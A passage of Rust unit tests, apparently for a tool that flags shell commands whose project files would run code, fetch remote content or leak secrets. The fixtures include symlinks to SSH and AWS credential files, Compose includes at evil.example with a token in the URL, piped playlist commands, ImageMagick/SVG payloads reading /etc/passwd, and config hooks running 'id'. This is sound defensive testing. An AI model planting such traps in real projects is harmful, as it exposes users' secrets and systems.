            let a = analyze(cmd, &crate::Limits::default());
            let cx = CheckCtx::new(&a, root);
            let mut out = Vec::new();
            WorkspaceCode.run(&cx, &mut out);
            out.first().map(|f| format!("{f:?}"))
        };
        for (cmd, expect) in rows {
            assert_eq!(flagged(root, cmd).is_some(), *expect, "{cmd}");
        }
        write(
            root,
            ".cargo/config.toml",
            "[build]\nrustc-wrapper = \"./x\"\n",
        );
        let rows: &[(&str, bool)] = &[
            ("cd /usr && cargo tree", false),
            ("cd sub && cargo tree", true),
            ("cargo tree", true),
            ("cd /nonexistent; cargo tree", true),
            ("cd nope || true; cargo tree", true),
            ("pushd -n sub && cargo tree", true),
            ("pushd sub; popd; cargo tree", true),
            ("cd sub; cd - ; cargo tree", true),
            ("cd sub && cd ~- && cargo tree", true),
            ("cd sub && cd \"$OLDPWD\" && cargo tree", true),
            ("pushd sub && pushd && cargo tree", true),
        ];
        for (cmd, expect) in rows {
            assert_eq!(flagged(root, cmd).is_some(), *expect, "{cmd}");
        }
    }

    #[test]
    fn miller_rc_of_the_directory() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "mlr --icsv --opprint cat a.csv"), None);
        write(root, ".mlrrc", "I\nicsv\n");
        assert!(flagged(root, "mlr --icsv --ojson cat a.csv").is_some());
        assert!(flagged(root, "miller --c2p head a.csv").is_some());
        assert!(
            flagged(root, "echo I > .mlrrc; mlr cat a.csv").is_some(),
            "written by the line"
        );
    }

    #[test]
    fn compose_project_with_remote_resources() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "compose.yaml",
            "include:\n  - ./local.yml\nservices:\n  a:\n    image: x\n    environment:\n      - URL=https://example.com\n    extends: base\nsecrets:\n  s:\n    file: ./s.txt\n",
        );
        write(root, "local.yml", "services:\n  b:\n    image: y\n");
        for cmd in [
            "docker compose ps",
            "docker-compose logs",
            "podman compose top",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for local in [
            "include:\n  - https://github.com/evil/x.git\n",
            "include:\n  - path: oci://evil.example/x:latest\n",
            "include: [ \"git@github.com:evil/x.git\" ]\n",
            "services:\n  w:\n    extends:\n      file: https://evil.example/${GITHUB_TOKEN}.git\n      service: w\n",
            "services:\n  w:\n    extends: { file: \"github.com/evil/x.git#main\", service: w }\n",
        ] {
            write(root, "local.yml", local);
            for cmd in [
                "docker compose ps",
                "docker compose -p app logs web",
                "docker-compose ps",
                "podman compose images",
                "docker compose config --services",
            ] {
                assert!(flagged(root, cmd).is_some(), "{cmd} with {local}");
            }
            for cmd in ["docker compose version", "docker compose ls", "docker ps"] {
                assert_eq!(flagged(root, cmd), None, "{cmd}");
            }
        }
        write(root, "local.yml", "services: {}\n");
        write(
            root,
            "other/evil.yml",
            "include:\n  - https://evil.example/x.git\n",
        );
        assert!(flagged(root, "docker compose -f other/evil.yml ps").is_some());
        assert!(flagged(root, "docker compose --file=\"$F\" ps").is_some());
        write(root, ".env", "COMPOSE_FILE=other/evil.yml\n");
        assert!(flagged(root, "docker compose ps").is_some());
        std::fs::remove_file(root.join(".env")).unwrap_or_else(|e| panic!("{e}"));
        // A project file that is itself remote: Compose fetches it.
        for cmd in [
            "docker compose -f oci://evil.example/app:latest ps",
            "docker compose --file=https://github.com/evil/x.git config --services",
            "docker-compose -f git@github.com:evil/x.git ps",
            "podman compose -f oci://evil.example/app images",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        assert_eq!(flagged(root, "docker compose -f compose.yaml ps"), None);
    }

    #[test]
    fn pulumi_project_backend() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "Pulumi.yaml", "name: x\nruntime: nodejs\n");
        assert_eq!(flagged(root, "pulumi whoami"), None);
        write(
            root,
            "Pulumi.yaml",
            "name: x\nruntime: nodejs\nbackend:\n  url: https://evil.example\n",
        );
        for cmd in [
            "pulumi whoami",
            "pulumi stack ls",
            "pulumi config",
            "pulumi -C . org",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "pulumi version",
            "pulumi --version",
            "pulumi whoami --help",
            "pulumi",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    /// A chart in `root/chart` whose template prints the chart's file `get`, beside a readme.
    fn helm_chart(root: &Path, get: &str) {
        write(
            root,
            "chart/Chart.yaml",
            "apiVersion: v2\nname: c\nversion: 0.1.0\n",
        );
        write(
            root,
            "chart/templates/a.yaml",
            &format!("x: {{{{ .Files.Get \"{get}\" }}}}\n"),
        );
        write(root, "chart/files/readme.txt", "hello\n");
    }

    #[test]
    fn helm_chart_with_a_link_to_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        helm_chart(root, "files/k");
        for cmd in ["helm template ./chart", "helm lint chart", "helm version"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
        let link = root.join("chart/files/k");
        std::os::unix::fs::symlink(Path::new(&home).join(".ssh/id_rsa"), &link)
            .unwrap_or_else(|e| panic!("{e}"));
        for cmd in [
            "helm template ./chart",
            "helm lint chart",
            "helm show all ./chart",
            "helm template -f chart/files/readme.txt ./chart",
            "cd chart && helm lint",
            "cd chart && helm lint -f files/readme.txt",
            "cd chart && helm lint --namespace ns",
            "cd chart && helm lint -n ns",
        ] {
            let dir = if cmd.starts_with("cd") {
                root.join("chart")
            } else {
                root.to_path_buf()
            };
            let cmd = cmd.trim_start_matches("cd chart && ");
            assert!(flagged(&dir, cmd).is_some(), "{cmd}");
        }
        assert_eq!(flagged(root, "helm version"), None);
    }

    #[test]
    fn helm_chart_with_a_link_to_a_directory_holding_secrets() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        helm_chart(root, "files/h/.ssh/id_rsa");
        let link = root.join("chart/files/h");
        // A directory holding nothing secret, walked through: no finding.
        std::os::unix::fs::symlink("/usr/share/doc", &link).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(flagged(root, "helm template ./chart"), None);
        let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
        for target in [home.as_str(), "/", "/etc"] {
            std::fs::remove_file(&link).unwrap_or_else(|e| panic!("{e}"));
            std::os::unix::fs::symlink(target, &link).unwrap_or_else(|e| panic!("{e}"));
            for cmd in [
                "helm template ./chart",
                "helm show values chart",
                "helm lint chart",
            ] {
                assert!(
                    flagged(root, cmd).is_some(),
                    "{cmd} with a link to {target}"
                );
            }
        }
    }

    #[test]
    fn data_directories_with_a_link_to_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "db/status",
            "Package: vim\nStatus: install ok installed\n",
        );
        write(root, "db/info/vim.md5sums", "0 /usr/bin/vim\n");
        write(root, "sys/var/lib/dpkg/status", "Package: vim\n");
        write(
            root,
            "sys/var/lib/dpkg/info/vim.md5sums",
            "0 /usr/bin/vim\n",
        );
        write(root, "quotes/q", "a\n%\nb\n");
        write(root, "mail/master.cf", "smtp inet n - y - - smtpd\n");
        let harmless = [
            "dpkg -L vim --admindir=db",
            "dpkg-query --control-show vim postinst --admindir db",
            "dpkg -L vim --root=sys",
            "dpkg -L vim",
            "dpkg -L vim --root=/",
            "info -d db foo",
            "fortune quotes",
            "systemctl cat --root=sys foo",
            "lsblk --sysroot=sys -o MODEL",
            "postconf -c mail -n",
        ];
        for cmd in harmless {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
        for link in [
            "db/info/vim.list",
            "sys/var/lib/dpkg/info/vim.list",
            "quotes/k",
            "mail/main.cf",
        ] {
            std::os::unix::fs::symlink(Path::new(&home).join(".aws/credentials"), root.join(link))
                .unwrap_or_else(|e| panic!("{e}"));
        }
        for cmd in [
            "dpkg -L vim --admindir=db",
            "dpkg -L vim --adm db",
            "dpkg-query -S AKIA --admindir db",
            "dpkg-query --control-show vim postinst --admindir db",
            "dpkg -L vim --root=sys",
            "dpkg-query --root sys -W",
            "info -d db foo",
            "info --directory=db foo",
            "fortune quotes",
            "fortune -m AKIA quotes",
            "systemctl cat --root=sys foo",
            "systemd-analyze --root=sys cat-config systemd/system.conf",
            "lsblk --sysroot=sys -o MODEL",
            "lscpu -s sys",
            "lsmem --sysroot sys",
            "sdcv --data-dir db word",
            "pw-config -p db list",
            "postconf -c mail -n",
            "postconf -nc mail",
            "postconf -cmail",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "dpkg -L vim",
            "dpkg -L vim --root=/",
            "fortune",
            "info foo",
            "postconf -n",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    #[test]
    fn perldoc_in_a_perl_distribution() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "lib/Foo/Bar.pm", "package Foo::Bar;\n1;\n");
        let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
        std::os::unix::fs::symlink(
            Path::new(&home).join(".aws/credentials"),
            root.join("lib/Foo/Baz.pm"),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        // Not a distribution: perldoc looks only in `@INC`.
        assert_eq!(flagged(root, "perldoc -m Foo::Baz"), None);
        write(root, "Makefile.PL", "use ExtUtils::MakeMaker;\n");
        for cmd in [
            "perldoc -m Foo::Baz",
            "perldoc Foo::Baz",
            "perldoc -m Foo::Bar",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in ["perldoc -m strict", "perldoc -f open", "perldoc perlre"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    #[test]
    fn project_readers_moved_to_another_project() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "proj/package.json", "{\"name\": \"p\"}\n");
        write(root, "proj/Cargo.toml", "[package]\nname = \"p\"\n");
        write(root, "other/package.json", "{}\n");
        write(root, "other/x.c", "int x;\n");
        write(root, "proj/src/lib.rs", "\n");
        write(root, "proj/x.c", "int x;\n");
        write(root, "proj/x.sh", "echo\n");
        for cmd in [
            "npm ls --prefix proj",
            "cargo metadata --manifest-path proj/Cargo.toml",
            "npm view ./proj",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        // The secret exists (a link to a missing file leaks nothing).
        write(root, "secrets/.aws/credentials", "[default]\n");
        std::os::unix::fs::symlink(
            root.join("secrets/.aws/credentials"),
            root.join("proj/Cargo.lock"),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        for cmd in [
            "npm ls --prefix proj",
            "npm ls -C proj",
            "npm pkg get name --prefix=proj",
            "npm view ./proj",
            "npm view file:proj",
            "cargo metadata --manifest-path proj/Cargo.toml",
            "cargo tree --manifest-path=proj/Cargo.toml",
            "clang-format --dry-run proj/x.c",
            "shellcheck proj/x.sh",
            "typos proj",
            "rustfmt --check proj/src/lib.rs",
            "clang-format --assume-filename=proj/x.c",
            "clang-format -assume-filename=proj/x.c --dry-run",
            "clang-format --assume-filename proj/x.c",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "clang-format --dry-run other/x.c",
            "clang-format --assume-filename=other/x.c",
            "shellcheck x.sh",
            "typos other",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in ["npm ls --prefix other", "npm ls", "cargo metadata"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    #[test]
    fn ffprobe_playlists_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "clip.mp4", "\0\0\0\x18ftypmp42");
        write(
            root,
            "movie.m3u8",
            "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://evil.example/a.ts\n",
        );
        write(
            root,
            "odd.mp4",
            "#EXTM3U\n#EXTINF:1,\nhttp://evil.example/a.ts\n",
        );
        write(
            root,
            "s.sdp",
            "v=0\nc=IN IP4 10.0.0.1\nm=video 5004 RTP/AVP 96\n",
        );
        for cmd in ["ffprobe clip.mp4", "ffprobe -v error -show_format clip.mp4"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "ffprobe movie.m3u8",
            "ffprobe -hide_banner -i odd.mp4",
            "ffprobe s.sdp",
            "ffprobe -v error clip.mp4 odd.mp4",
            "ffprobe -show_format movie.m3u8",
            "gst-discoverer-1.0 movie.m3u8",
            "gst-discoverer-1.0 -v odd.mp4",
            "mp4box -info movie.m3u8",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "gst-discoverer-1.0 clip.mp4",
            "mp4box -info clip.mp4",
            "gst-discoverer-1.0 -t 5 clip.mp4",
            "timg clip.mp4",
            "timg --frames=1 clip.mp4",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in ["timg movie.m3u8", "timg --frames=1 odd.mp4", "timg s.sdp"] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn apptainer_images_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "tool.sif", "#!/usr/bin/env run-singularity\n");
        write(root, "sandbox/.singularity.d/runscript", "#!/bin/sh\n");
        for cmd in [
            "apptainer inspect missing.sif",
            "apptainer cache list",
            "apptainer inspect --help",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "apptainer inspect tool.sif",
            "singularity inspect -d tool.sif",
            "apptainer run-help --app x tool.sif",
            "apptainer inspect --all sandbox",
            "cp tool.sif b.sif && apptainer inspect b.sif",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn platformio_configuration_of_the_checkout() {
        let ws = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = ws.path();
        write(
            root,
            "platformio.ini",
            "[env:uno]\nplatform = atmelavr\nboard = uno\n",
        );
        assert_eq!(flagged(root, "pio boards"), None);
        write(
            root,
            "platformio.ini",
            "[platformio]\ncore_dir = tools/pio\n[env:uno]\nboard = uno\n",
        );
        assert!(flagged(root, "pio boards").is_some());
        assert!(flagged(root, "platformio device list").is_some());
        write(
            root,
            "platformio.ini",
            "[platformio]\nextra_configs = ../.env\n",
        );
        assert!(flagged(root, "pio system info").is_some());
    }

    #[test]
    fn hledger_configuration_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "books/2024.journal", "2024-01-01 x\n  a  1\n  b\n");
        assert_eq!(flagged(root, "hledger -f books/2024.journal bal"), None);
        write(root, "hledger.conf", "[balance]\n-o ~/.bashrc\n");
        assert!(flagged(root, "hledger -f books/2024.journal bal").is_some());
        assert_eq!(
            flagged(root, "hledger --version"),
            flagged(root, "hledger bal")
        );
    }

    #[test]
    fn codespell_configuration_that_fixes_files() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "setup.cfg",
            "[codespell]\nskip = *.po\nignore-words-list = teh\n",
        );
        write(root, "pyproject.toml", "[tool.black]\nwrite = 1\n");
        assert_eq!(flagged(root, "codespell"), None);
        assert_eq!(flagged(root, "codespell src"), None);
        write(root, ".codespellrc", "[codespell]\nwrite-changes =\n");
        assert!(flagged(root, "codespell src").is_some());
        write(root, ".codespellrc", "[codespell]\nw =\n");
        assert!(flagged(root, "codespell").is_some());
        std::fs::remove_file(root.join(".codespellrc")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "pyproject.toml",
            "[tool.codespell]\nwrite_changes = true\n",
        );
        assert!(flagged(root, "codespell").is_some());
        write(
            root,
            "pyproject.toml",
            "[tool.codespell]\ninteractive = 3\n",
        );
        assert!(flagged(root, "codespell").is_some());
    }

    #[test]
    fn project_virtual_environment() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for cmd in ["uv pip list", "poetry show", "poetry env info"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(root, ".venv/bin/python", "#!/bin/sh\n");
        write(root, ".venv/pyvenv.cfg", "home = /usr/bin\n");
        for cmd in [
            "uv pip list",
            "uv pip show x",
            "uv python find",
            "uv --color never pip list",
            "uv --cache-dir /tmp/c tree",
            "poetry show",
            "poetry env info",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "uv --version",
            "uv python list",
            "poetry --version",
            "poetry config --list",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    #[test]
    fn dotnet_sdk_paths() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "global.json",
            "{\"sdk\": {\"version\": \"10.0.100\"}}\n",
        );
        assert_eq!(flagged(root, "dotnet --info"), None);
        write(
            root,
            "global.json",
            "{\"sdk\": {\"version\": \"10.0.100\", \"paths\": [\".dotnet\"]}}\n",
        );
        assert!(flagged(root, "dotnet --info").is_some());
        assert!(flagged(root, "dotnet --version").is_some());
    }

    #[test]
    fn tox_inline_plugin_and_leiningen_project() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "tox.ini", "[tox]\n");
        assert_eq!(flagged(root, "tox --version"), None);
        assert_eq!(flagged(root, "lein --version"), None);
        write(root, "toxfile.py", "\n");
        assert!(flagged(root, "tox --version").is_some());
        assert!(flagged(root, "tox --help").is_some());
        write(root, "project.clj", "(defproject x \"0.1.0\")\n");
        assert!(flagged(root, "lein --version").is_some());
    }

    #[test]
    fn pnpmfile() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "pnpm ls"), None);
        write(root, "pnpm-workspace.yaml", "packages:\n  - 'pkgs/*'\n");
        assert_eq!(flagged(root, "pnpm why x"), None);
        write(root, ".pnpmfile.cjs", "module.exports = {}\n");
        for cmd in ["pnpm ls", "pnpm why x", "pnpm outdated", "pnpm root"] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        assert_eq!(flagged(root, "pnpm --version"), None);
        std::fs::remove_file(root.join(".pnpmfile.cjs")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "pnpm-workspace.yaml",
            "configDependencies:\n  x: 1.0.0+sha512-x\n",
        );
        assert!(flagged(root, "pnpm ls").is_some());
    }

    #[test]
    fn gdb_init_and_yarn_plugins() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "gdb -batch -ex bt ./a.out"), None);
        write(root, ".gdbinit", "shell id\n");
        assert!(flagged(root, "gdb -batch -ex bt ./a.out").is_some());
        assert_eq!(flagged(root, "gdb -nx -batch -ex bt ./a.out"), None);
        assert_eq!(flagged(root, "yarn list"), None);
        write(root, "sub/.yarnrc", "yarn-path \"./x.js\"\n");
        assert!(flagged(root, "yarn --cwd sub list").is_some());
        assert!(flagged(root, "yarn list --cwd=sub").is_some());
        assert!(flagged(root, "yarn --cwd \"$d\" list").is_some());
        assert_eq!(flagged(root, "yarn list"), None);
        write(
            root,
            ".yarnrc.yml",
            "plugins:\n  - path: .yarn/plugins/x.cjs\n",
        );
        assert!(flagged(root, "yarn list").is_some());
    }

    #[test]
    fn linter_configs_that_run_code_before_help() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".pylintrc", "[MAIN]\njobs = 2\n");
        write(root, ".flake8", "[flake8]\nmax-line-length = 100\n");
        assert_eq!(flagged(root, "pylint --help"), None);
        assert_eq!(flagged(root, "flake8 --version"), None);
        write(root, ".pylintrc", "[MAIN]\ninit-hook = import os\n");
        assert!(flagged(root, "pylint --help").is_some());
        write(
            root,
            "pyproject.toml",
            "[tool.pylint.main]\nload-plugins = [\"x\"]\n",
        );
        std::fs::remove_file(root.join(".pylintrc")).unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "pylint -h").is_some());
        write(
            root,
            "sub/setup.cfg",
            "[flake8:local-plugins]\nextension =\n  X = m:X\npaths = ./lp\n",
        );
        assert_eq!(flagged(root, "flake8 --version"), None);
        let sub = root.join("sub");
        assert!(flagged(&sub, "flake8 --version").is_some());
        assert!(flagged(&sub, "flake8 --help").is_some());
    }

    /// flake8 and pycodestyle take `filename` from their section as the line's `--filename`:
    /// patterns beyond the Python sources' make them read (and with `show-source` print)
    /// every file they match, `.env` among them.
    #[test]
    fn lint_configs_that_read_files_beyond_python_sources() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            ".flake8",
            "[flake8]
filename = *.py, *.pyi
show-source = true
",
        );
        write(
            root,
            "setup.cfg",
            "[pycodestyle]
filename = *.py
[other]
filename = *
",
        );
        assert_eq!(flagged(root, "flake8"), None);
        assert_eq!(flagged(root, "flake8 src"), None);
        assert_eq!(flagged(root, "pycodestyle ."), None);
        write(
            root,
            ".flake8",
            "[flake8]
show_source = true
filename =
    *.py
    *
",
        );
        assert!(flagged(root, "flake8").is_some());
        assert!(flagged(root, "flake8 --show-source src").is_some());
        assert_eq!(flagged(root, "flake8 --version"), None);
        write(
            root,
            ".flake8",
            "[flake8]
FILENAME: *.py,.e*
",
        );
        assert!(flagged(root, "flake8 .").is_some());
        write(
            root,
            ".flake8",
            "[flake8]
max-line-length = 100
",
        );
        assert_eq!(flagged(root, "flake8 ."), None);
        write(
            root,
            "tox.ini",
            "[pep8]
filename = *
",
        );
        assert!(flagged(root, "pycodestyle --show-source .").is_some());
        assert_eq!(flagged(root, "pycodestyle --help"), None);
        assert_eq!(flagged(root, "flake8 ."), None);
    }

    #[test]
    fn ruby_launchers_that_evaluate_project_files() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".rspec", "--require spec_helper\n");
        assert_eq!(flagged(root, "jekyll --version"), None);
        assert_eq!(flagged(root, "rspec --version"), None);
        write(root, ".rspec-local", "<%= `id` %>\n");
        assert!(flagged(root, "rspec --version").is_some());
        assert!(flagged(root, "rspec --help").is_some());
        write(root, "Gemfile", "source \"https://rubygems.org\"\n");
        assert!(flagged(root, "jekyll --version").is_some());
        assert!(flagged(root, "bridgetown --help").is_some());
    }

    #[test]
    fn version_managers_selecting_a_path() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            ".tool-versions",
            "python 3.12.1 # path:x\nnodejs 20.1.0\n",
        );
        write(root, "mise.toml", "[tools]\nnode = \"22\"\n");
        assert_eq!(flagged(root, "python3 --version"), None);
        assert_eq!(flagged(root, "node -v"), None);
        write(root, "sub/.tool-versions", "python path:./py system\n");
        let sub = root.join("sub");
        assert!(flagged(&sub, "python3 --version").is_some());
        assert!(flagged(&sub, "ls").is_some());
        assert_eq!(flagged(&sub, "echo hi"), None, "a builtin");
        assert_eq!(
            flagged(&sub, "/usr/bin/python3 --version"),
            None,
            "not looked up on PATH"
        );
        write(root, "mise.toml", "[env]\n_.path = [\"./bin\"]\n");
        assert!(flagged(root, "node -v").is_some());
        std::fs::remove_file(root.join("mise.toml")).unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "echo 'node path:./n' > .tool-versions; node -v").is_some());
    }

    #[test]
    fn tflint_plugins_and_rebar3_config_scripts() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".tflint.hcl", "config {\n  format = \"compact\"\n}\n");
        write(root, "rebar.config", "{erl_opts, [debug_info]}.\n");
        assert_eq!(flagged(root, "tflint --version"), None);
        assert_eq!(flagged(root, "rebar3 --version"), None);
        write(root, ".tflint.hcl", "config {\n  plugin_dir = \"./p\"\n}\n");
        assert!(flagged(root, "tflint --version").is_some());
        std::fs::remove_file(root.join(".tflint.hcl")).unwrap_or_else(|e| panic!("{e}"));
        write(root, ".tflint.d/plugins/tflint-ruleset-x", "\n");
        assert!(flagged(root, "tflint -v").is_some());
        write(root, "rebar.config", "{project_plugins, [rebar3_x]}.\n");
        assert!(flagged(root, "rebar3 --version").is_some());
        write(root, "rebar.config", "{erl_opts, [debug_info]}.\n");
        write(root, "rebar.config.script", "os:cmd(\"id\"), CONFIG.\n");
        assert!(flagged(root, "rebar3 help").is_some());
    }

    #[test]
    fn terragrunt_configuration() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "terragrunt version"), None);
        write(
            root,
            "terragrunt.hcl",
            "locals {\n  x = run_cmd(\"id\")\n}\n",
        );
        assert!(flagged(root, "terragrunt version").is_some());
        std::fs::remove_file(root.join("terragrunt.hcl")).unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "cp x.hcl terragrunt.hcl && terragrunt version").is_some());
    }

    #[test]
    fn yarn_runs_a_script_named_like_its_command() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = dir.path();
        write(
            root,
            "package.json",
            "{\"scripts\": {\"build\": \"make\"}}\n",
        );
        assert_eq!(flagged(root, "yarn list"), None);
        assert_eq!(flagged(root, "yarn --version"), None);
        write(
            root,
            "package.json",
            "{\"scripts\": {\"list\": \"node x.js\"}}\n",
        );
        assert!(flagged(root, "yarn list").is_some());
        assert!(flagged(root, "yarn --cwd . list --depth=0").is_some());
        assert!(flagged(root, "yarn --network-timeout 5000 list").is_some());
        assert!(flagged(root, "yarn --mutex file:/tmp/m list").is_some());
        assert_eq!(flagged(root, "yarn outdated"), None);
    }

    #[test]
    fn help_that_runs_the_project_file() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for cmd in ["scons -h", "scons --help", "vagrant -h", "vagrant status"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(root, "SConstruct", "Help('x')\n");
        write(root, "Vagrantfile", "Vagrant.configure('2') {}\n");
        for cmd in [
            "scons -h",
            "scons --help",
            "vagrant -h",
            "vagrant status",
            "vagrant plugin list --local",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "scons -H",
            "scons --version",
            "vagrant --version",
            "vagrant -v",
            "vagrant box list",
            "vagrant plugin list",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
    }

    #[test]
    fn sox_playlists_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "ok.m3u", "#EXTM3U\nsong.wav\n");
        write(root, "cmd.m3u", "|touch /tmp/pwned\n");
        write(
            root,
            "web.pls",
            "[playlist]\nFile1=http://evil.example/a.wav\n",
        );
        for cmd in ["soxi ok.m3u", "soxi -D song.wav", "soxi cmd.wav"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "soxi cmd.m3u",
            "soxi -D web.pls",
            "play cmd.m3u",
            "echo x > n.m3u && soxi n.m3u",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn image_drawings_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "photo.png", "\u{89}PNG\r\n\x1a\n");
        write(
            root,
            "icon.svg",
            "<svg><use href=\"#a\"/><rect fill=\"url(#g)\"/></svg>\n",
        );
        write(
            root,
            "a.png",
            "viewbox 0 0 1 1\nimage over 0,0 0,0 '|touch /tmp/pwned'\n",
        );
        write(
            root,
            "b.svg",
            "<svg><image href=\"text:/etc/passwd\"/></svg>\n",
        );
        write(root, "c.msl", "<image><read filename=\"a.png\"/></image>\n");
        write(root, "d.png", "%!PS\n(x) run\n");
        write(root, "e.eps", "");
        write(root, "f.pdf", "%PDF-1.4\n");
        for cmd in [
            "identify photo.png",
            "identify f.pdf",
            "magick identify -verbose icon.svg",
            "timg photo.png",
            "chafa icon.svg",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "identify a.png",
            "magick identify b.svg",
            "zbarimg c.msl",
            "cp a.png q.png && identify q.png",
            "timg a.png",
            "timg -g 80x40 c.msl",
            "chafa b.svg",
            "identify d.png",
            "magick identify -ping e.eps",
            "convert e.eps info:",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn idiomatic_version_files_naming_a_path() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".nvmrc", "20\n");
        write(root, ".python-version", "3.12.1\n");
        assert_eq!(flagged(root, "node --version"), None);
        write(root, "sub/.node-version", "path:./n\n");
        assert!(flagged(&root.join("sub"), "node --version").is_some());
        assert_eq!(flagged(root, "node --version"), None);
    }

    #[test]
    fn node_clis_that_load_a_javascript_configuration_first() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "package.json", "{}\n");
        for cmd in ["sequelize --version", "ava --version", "prisma --version"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        assert!(flagged(root, "sequelize --options-path x.js db:migrate:status").is_some());
        write(root, ".sequelizerc", "module.exports = {};\n");
        write(root, "ava.config.js", "export default {};\n");
        write(root, "prisma.config.ts", "export default {};\n");
